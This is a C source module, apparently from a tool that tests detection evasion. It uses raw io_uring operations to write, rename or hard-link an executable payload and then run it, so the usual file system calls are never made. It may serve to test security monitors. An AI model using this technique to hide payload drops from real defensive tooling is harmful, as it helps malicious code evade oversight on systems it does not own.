// Steps that are no system calls: io_uring does them.
#include "evade.h"

#include <linux/io_uring.h>

static int ring = -1;
static struct io_uring_sqe* entries;
static unsigned *tail, *array, *cq_head;
static struct io_uring_cqe* completions;
static unsigned sq_mask, cq_mask;

static void set_up(void) {
    struct io_uring_params p = {0};
    ring = must(syscall(SYS_io_uring_setup, 4, &p), "io_uring_setup");
    char* rings = mmap(NULL, p.sq_off.array + p.sq_entries * 4 + 4096, PROT_READ | PROT_WRITE,
                       MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    char* done = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof *completions,
                      PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
    entries = mmap(NULL, p.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE,
                   MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
    if (rings == MAP_FAILED || done == MAP_FAILED || (void*)entries == MAP_FAILED) die("rings");
    tail = (unsigned*)(rings + p.sq_off.tail);
    array = (unsigned*)(rings + p.sq_off.array);
    sq_mask = *(unsigned*)(rings + p.sq_off.ring_mask);
    cq_head = (unsigned*)(done + p.cq_off.head);
    cq_mask = *(unsigned*)(done + p.cq_off.ring_mask);
    completions = (struct io_uring_cqe*)(done + p.cq_off.cqes);
}

static int submit(const struct io_uring_sqe* entry, const char* what) {
    if (ring < 0) set_up();
    unsigned at = *tail & sq_mask;
    entries[at] = *entry;
    array[at] = at;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    must(syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0), "enter");
    int result = completions[*cq_head & cq_mask].res;
    __atomic_store_n(cq_head, *cq_head + 1, __ATOMIC_RELEASE);
    if (result < 0) errno = -result;
    return must(result, what);
}

static uint64_t address(const void* p) { return (uint64_t)(uintptr_t)p; }

static void ring_drop(const char* path, mode_t mode) {
    struct io_uring_sqe open_it = {.opcode = IORING_OP_OPENAT,
                                   .fd = AT_FDCWD,
                                   .addr = address(path),
                                   .len = mode,
                                   .open_flags = O_WRONLY | O_CREAT};
    int fd = submit(&open_it, "open in the ring");
    struct io_uring_sqe write_it = {
        .opcode = IORING_OP_WRITE, .fd = fd, .addr = address(payload), .len = payload_size};
    submit(&write_it, "write in the ring");
    struct io_uring_sqe close_it = {.opcode = IORING_OP_CLOSE, .fd = fd};
    submit(&close_it, "close in the ring");
}

static void ring_written(void) {
    ring_drop(in_folder("x"), 0755);
    run(in_folder("x"));
}

static void ring_renamed(void) {
    drop(in_folder("a"), 0755);
    struct io_uring_sqe rename_it = {.opcode = IORING_OP_RENAMEAT,
                                     .fd = AT_FDCWD,
                                     .addr = address(in_folder("a")),
                                     .len = (uint32_t)AT_FDCWD,
                                     .addr2 = address(in_folder("x"))};
    submit(&rename_it, "rename in the ring");
    run(in_folder("x"));
}

static void ring_linked(void) {
    ring_drop(in_folder("a"), 0755);
    struct io_uring_sqe link_it = {.opcode = IORING_OP_LINKAT,
                                   .fd = AT_FDCWD,
                                   .addr = address(in_folder("a")),
                                   .len = (uint32_t)AT_FDCWD,
                                   .addr2 = address(in_folder("x"))};
    submit(&link_it, "link in the ring");
    run(in_folder("x"));
}

const struct way ring_ways[] = {{"ring-written", ring_written},
                                {"ring-renamed", ring_renamed},
                                {"ring-linked", ring_linked},
                                {0}};
